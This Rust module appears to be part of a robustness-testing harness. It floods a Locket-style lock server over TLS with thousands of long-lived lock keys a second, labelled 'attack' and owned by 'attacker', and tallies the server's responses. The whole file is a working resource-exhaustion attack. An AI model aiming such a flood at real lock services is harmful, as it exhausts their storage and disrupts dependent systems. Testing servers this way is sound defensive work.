//! Many lock keys. Nothing bounds their number but the time to live of each, the disk, and the
//! rate of the lock server; the original has no bound either.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use proto::models::locket_client::LocketClient;
use proto::models::{LockRequest, Resource, TypeCode};
use runtime::client::{self, Options};
use runtime::tls::ClientTls;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};

use crate::context::Context;

/// Keys a second.
pub(crate) const RATE: u64 = 4_000;
const WORKERS: u64 = 16;
/// Seconds for which the last key outlives the attack.
const OUTLIVES: u64 = 5;

pub(super) async fn many(context: Context) -> anyhow::Result<()> {
    let tls = ClientTls::load(&context.target.files.clone().into())?;
    let channel = client::channel(&context.target.authority(), Some(tls), Options::default())?;
    let keys = context.keys / u64::from(context.divisor);
    let time_to_live = i64::try_from(keys / RATE + OUTLIVES).unwrap_or(i64::MAX);
    let next = Arc::new(AtomicU64::new(0));
    let mut running = JoinSet::new();
    for _ in 0..WORKERS {
        let (context, next) = (context.clone(), Arc::clone(&next));
        let mut locks = LocketClient::new(channel.clone());
        running.spawn(async move {
            let mut pace = interval(Duration::from_micros(1_000_000 * WORKERS / RATE));
            pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
            loop {
                pace.tick().await;
                let number = next.fetch_add(1, Relaxed);
                if number >= keys || context.is_over() {
                    return;
                }
                let resource = Resource {
                    key: format!("attack-{number:036}"),
                    owner: "attacker".to_owned(),
                    type_code: TypeCode::Presence.into(),
                    ..Resource::default()
                };
                let request =
                    LockRequest { resource: Some(resource), ttl_in_seconds: time_to_live };
                match locks.lock(request).await {
                    Ok(_) => context.got.add("keys"),
                    Err(status) => context.got.add(format!("{:?}", status.code())),
                }
            }
        });
    }
    while running.join_next().await.is_some() {}
    Ok(())
}
